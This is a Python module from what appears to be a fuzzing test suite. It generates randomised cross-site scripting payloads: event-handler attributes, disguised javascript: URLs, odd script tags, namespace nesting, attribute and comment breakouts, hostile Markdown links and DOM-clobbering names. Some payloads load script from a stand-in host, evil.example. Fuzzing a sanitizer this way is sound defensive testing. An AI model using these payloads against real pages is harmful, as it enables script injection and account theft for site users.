"""Hostile text, made from the known families of script injection: our own generators, in no list's words.

Each family gives one text from a source of random choices, so that the same seed gives the same texts. A list of
payloads that others published can be read from a file by :mod:`tests.fuzzing.__main__`.
"""

from __future__ import annotations

import html
from collections.abc import Callable
from random import Random
from typing import Final, TypeAlias

Family: TypeAlias = Callable[[Random], str]

_CALLS: Final = ("alert(1)", "alert`1`", "confirm(document.domain)", "import('//evil.example')", "top['al'+'ert'](1)")
_EVENTS: Final = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onbegin", "onend"),
    *("onanimationstart", "onbeforeinput", "onscrollend", "oncontentvisibilityautostatechange", "onfocusin", "onfz"),
)
_TAGS: Final = (
    *("script", "img", "svg", "math", "iframe", "object", "embed", "video", "audio", "source", "details", "body"),
    *("input", "button", "form", "style", "link", "base", "meta", "template", "noscript", "title", "textarea"),
    *("select", "option", "table", "tr", "td", "marquee", "dialog", "slot", "xmp", "plaintext", "noembed", "frameset"),
    *("animate", "set", "use", "foreignObject", "desc", "mtext", "mglyph", "annotation-xml", "a", "p", "div", "x-y"),
)
_SCHEMES: Final = ("javascript", "vbscript", "data", "file", "blob", "filesystem", "feed", "jar", "view-source", "ws")
_SPACES: Final = (" ", "\t", "\n", "\r", "\x0c", "/", "//", " / ", "\x0b", "\xa0", "")
_ODD: Final = (
    "\x00",
    "\x01",
    "\x08",
    "\x1b",
    "\x7f",
    "\xad",
    "\u200b",
    "\u2028",
    "\u202e",
    "\ufeff",
    "\ufffe",
    "\ufffd",
)
_SELF_NAMED: Final = ("kb-answer", "kb-main", "location", "constructor", "__proto__", "root", "stApp")


def some_case(random: Random, text: str) -> str:
    """Return a text with some of its letters in the other case."""
    return "".join(c.upper() if random.random() < 0.3 else c for c in text)


def disguised(random: Random, text: str) -> str:
    """Return a text some of whose characters are character references, of every form that browsers read."""
    forms = ("&#{};", "&#x{:x};", "&#{:07d}", "&#X{:04X};", "&#{:03d};")
    return "".join(random.choice(forms).format(ord(c)) if random.random() < 0.2 else c for c in text)


def broken_up(random: Random, text: str) -> str:
    """Return a text with a character in it that some parsers skip."""
    at = random.randrange(len(text) + 1)
    return text[:at] + random.choice((*_ODD, "\t", "\n", "\r", "<!-- -->", "\\")) + text[at:]


def address(random: Random) -> str:
    """Return an address that runs something, under some disguise."""
    scheme = random.choice(_SCHEMES)
    rest = "text/html;base64,PHNjcmlwdD4x" if scheme == "data" else random.choice(_CALLS)
    colon = random.choice((":", ":", ":", "&colon;", "&#58;", "&#x3a", "%3A", "：", "\t:", ":\n"))
    text = f"{scheme}{colon}{random.choice(('', '//', '//%0a'))}{rest}"
    for change in random.sample((some_case, disguised, broken_up), random.randrange(3)):
        text = change(random, text)
    return random.choice(("", "", " ", "\x01", "&#14;", "//", "\\\\", "https://a.example/?x=", "?")) + text


def element(random: Random) -> str:
    """Return an element with a handler or an address, quoted and spaced in some way, closed or not."""
    tag, quote = some_case(random, random.choice(_TAGS)), random.choice(("", '"', "'", "`"))
    pairs = []
    for _ in range(random.randrange(1, 4)):
        name = random.choice((*_EVENTS, "href", "src", "xlink:href", "srcdoc", "style", "formaction", "action", "id"))
        value = address(random) if name in ("href", "src", "xlink:href", "action") else random.choice(_CALLS)
        pairs.append("".join((some_case(random, name), random.choice(("=", " = ", "=\n")), quote, value, quote)))
    inside = random.choice(_SPACES).join(("", *pairs))
    end = random.choice((">", "/>", " >", "", f">{random.choice(_CALLS)}</{tag}>", f"></{tag} x>"))
    return f"<{random.choice(('', '', '', '/', '!', '?', '%', chr(0)))}{tag}{random.choice(_SPACES)}{inside}{end}"


def script(random: Random) -> str:
    """Return a script element in one of its odd forms."""
    name = some_case(random, "script")
    opening = random.choice((f"<{name}>", f"<{name}\t>", f"<{name}/x>", f"<{name} src=//evil.example>", f"<<{name}>"))
    closing = random.choice((f"</{name}>", f"</{name}\n>", f"</{name}/x>", f"</{name}", ""))
    return f"{opening}{random.choice(_CALLS)}{closing}"


def nested(random: Random) -> str:
    """Return elements of several namespaces within each other, which parsers take apart in different ways."""
    names = random.choices(("svg", "math", "mtext", "mglyph", "style", "title", "noscript", "table", "p", "a",
                            "template", "select", "form", "foreignObject", "annotation-xml", "desc", "xmp"), k=5)  # fmt: skip
    opened = "".join(f"<{name}>" for name in names)
    closed = "".join(f"</{name}>" for name in random.sample(names, random.randrange(len(names))))
    return random.choice((opened + element(random) + closed, opened + closed + element(random)))


def comment(random: Random) -> str:
    """Return a comment, CDATA, declaration or instruction that ends where one does not expect it."""
    form = ("<!-- {} -->", "<!--> {} -->", "<!---!> {} -->", "<![CDATA[ {} ]]>", "<!DOCTYPE {}>", "<? {} ?>", "<% {} %>",
            "<!--[if IE]> {} <![endif]-->", "]]> {}", "--!> {}")  # fmt: skip
    return random.choice(form).format(element(random))


def breakout(random: Random) -> str:
    """Return text that ends an attribute, if it is not escaped, and begins another."""
    quote = random.choice(('"', "'", "`", "&quot;", "&#34", "\\'", '\\"', "&amp;quot;"))
    rest = random.choice((f" {random.choice(_EVENTS)}={random.choice(_CALLS)} x={quote}", ">" + element(random)))
    return f"{quote}{random.choice(_SPACES)}{rest}"


def style(random: Random) -> str:
    """Return a declaration that loads or covers something."""
    form = ("color:red;background:url({})", "@import '{}';", "width:expression({})", "position:fixed;inset:0;x:{}",
            "text-align:left;background:url({})", "-moz-binding:url({})", "text-align:left\n;{}")  # fmt: skip
    return random.choice(form).format(address(random))


def link(random: Random) -> str:
    """Return a link or picture of Markdown with a hostile address, title or words."""
    target, words = address(random), random.choice(("x", breakout(random), element(random), "`<b>`", "![y](a.png)"))
    title = random.choice(("", f' "{breakout(random)}"', f" '{breakout(random)}'", f" ({element(random)})"))
    forms = ("[{w}]({t}{i})", "![{w}]({t}{i})", "[{w}](<{t}>{i})", "[{w}][r]\n\n[r]: {t}{i}\n", "<{t}>",
             "[{w}]: {t}{i}\n\n[{w}]", "![{w}][r]\n\n[r]: <{t}>{i}\n", "[{w}](late-fee#{t})", "[{w}](/a/{t}{i})",
             "[{w}](a.png{i})", "![{w}](a.png{i})", "[{w}](/article?id={t})")  # fmt: skip
    return random.choice(forms).format(w=words, t=target, i=title)


def clobber(random: Random) -> str:
    """Return text that names what a page's own scripts rely on."""
    name = random.choice(_SELF_NAMED)
    return random.choice(
        (f"## {name}\n", f"<a id={name}>", f"<form name={name}>", f"[{name}](#{name})", f"# {name} #\n")
    )


def polyglot(random: Random) -> str:
    """Return several of the others in one."""
    return random.choice(("", " ", "\n", "*/", "--><")).join(random.choice(SIMPLE)(random) for _ in range(3))


def opened_again(random: Random) -> str:
    """Return markup that is text only because it is escaped once, or twice."""
    text = html.escape(element(random))
    return html.escape(text) if random.random() < 0.3 else text


SIMPLE: Final[tuple[Family, ...]] = (
    *(address, element, script, nested, comment, breakout, style, link, clobber, opened_again),
)
FAMILIES: Final[tuple[Family, ...]] = (*SIMPLE, polyglot)
"""Every family; each member is a text that some page somewhere has run."""


def any_payload(random: Random) -> str:
    """Return a text of any family."""
    return random.choice(FAMILIES)(random)
